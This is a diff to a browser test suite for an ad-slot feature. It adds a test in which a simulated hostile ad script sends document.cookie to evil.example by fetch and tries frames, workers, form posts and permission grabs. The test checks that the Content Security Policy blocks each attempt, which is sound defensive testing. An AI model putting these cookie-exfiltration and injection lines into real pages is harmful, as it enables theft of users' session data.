@@ -136,7 +136,7 @@ const serving =
   (route) =>
     route.fulfill({ contentType: 'text/javascript', body: script });
 
-describe('behaviour 4.6, the states of the slot', () => {
+describe.concurrent('behaviour 4.6, the states of the slot', () => {
   test('ADS-05, NET-05: the network’s script is added to the slot’s own node, asynchronously and once', async () => {
     await visit(byScript, { network: serving(FOUND) }, async (page) => {
       await expect.poll(() => stateOf(page)).toBe('carbon-body-top-image');
@@ -315,7 +315,7 @@ describe('behaviour 4.6, the states of the slot', () => {
   });
 });
 
-describe('behaviour 4.6, what is told of ads', () => {
+describe.concurrent('behaviour 4.6, what is told of ads', () => {
   test('ADS-13: what is shown for 2500 ms is told for a share of readers, with its label', async () => {
     // Shape, appeal, house; then for the network's slot: below the ratio.
     await visit(byScript, { network: serving(FOUND), draws: [0.9, 0.9, 0, 0.1] }, async (page) => {
@@ -527,7 +527,7 @@ describe('behaviour 7.1, the network’s JSON', () => {
   });
 });
 
-describe('ADS-11: the box', () => {
+describe.concurrent('ADS-11: the box', () => {
   test.each([
     [360, 142],
     [600, 126],
@@ -563,7 +563,50 @@ describe('ADS-11: the box', () => {
   });
 });
 
-describe('reliability 4.4, an ad network that is hostile', () => {
+describe.concurrent('reliability 4.4, an ad network that is hostile', () => {
+  test('X12: its script sends nothing elsewhere, and gets no frame, worker, place, clipboard or whole screen', async () => {
+    const script = `${FOUND}; (async () => {
+      const refused = (window.refused = []);
+      addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
+      fetch('https://evil.example/?' + document.cookie).catch(() => 0);
+      new Image().src = 'https://evil.example/i.png';
+      document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/a.css' }));
+      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
+      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
+      try { eval('1'); } catch {}
+      try { new Worker('https://evil.example/w.js'); } catch {}
+      try { new Worker(URL.createObjectURL(new Blob(['']))); } catch {}
+      const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: 'https://evil.example/' }));
+      form.submit();
+      const of = (name) => navigator.permissions.query({ name }).then(({ state }) => state, () => 'denied');
+      window.permissions = await Promise.all(['geolocation', 'camera', 'microphone', 'clipboard-read'].map(of));
+      window.whole = await document.documentElement.requestFullscreen().then(() => 'whole', () => 'refused');
+    })()`;
+    await visit(byScript, { network: serving(script), clock: false }, async (page, { context, said }) => {
+      const sent: string[] = [];
+      context.on('request', (request) => sent.push(request.url()));
+      await page.waitForFunction(() => 'whole' in window);
+      const { refused, permissions, whole } = await page.evaluate(() => {
+        const own = window as unknown as Record<'refused' | 'permissions' | 'whole', unknown>;
+        return { refused: own.refused as string[], permissions: own.permissions, whole: own.whole };
+      });
+      expect([...new Set(refused)].toSorted()).toEqual([
+        'base-uri',
+        'connect-src',
+        'form-action',
+        'frame-src',
+        'img-src',
+        'script-src',
+        'style-src-elem',
+        'worker-src',
+      ]);
+      expect(permissions).toEqual(['denied', 'denied', 'denied', 'denied']);
+      expect(whole).toBe('refused');
+      expect(sent.filter((url) => url.includes('evil.example'))).toEqual([]);
+      said.splice(0);
+    });
+  });
+
   test('X12, CSP: what the policy does not name is not fetched; what its script does stays out of the page’s words', async () => {
     const script = `${FOUND}; const more = document.createElement('script'); more.src = 'https://evil.example/x.js'; document.head.append(more);
       const inline = document.createElement('script'); inline.textContent = 'window.isBroken = true'; document.head.append(inline);`;
